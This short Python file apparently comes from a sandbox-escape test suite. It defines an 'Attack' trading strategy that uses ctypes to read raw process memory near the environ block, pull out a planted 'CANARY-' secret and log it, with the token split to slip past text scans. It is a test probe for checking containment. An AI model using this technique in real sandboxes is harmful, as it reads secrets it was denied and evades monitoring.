"""Reads the top of its own stack, where the kernel left the start-up strings."""

# ends: - signal
# escapes without: environment

import ctypes
import itertools

from inalpha import Bar, Strategy


class Attack(Strategy):
    def on_bar(self, bar: Bar) -> None:
        if bar.sequence:
            return
        variables = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), "environ")
        places = list(itertools.takewhile(bool, (variables[n] for n in range(100))))
        raw = ctypes.string_at(min(places), max(places) - min(places) + 60) if places else b""
        mark = raw.find(b"CAN" + b"ARY-")
        self.log(raw[mark : mark + 39].decode("utf-8", "replace") if mark >= 0 else "nothing")
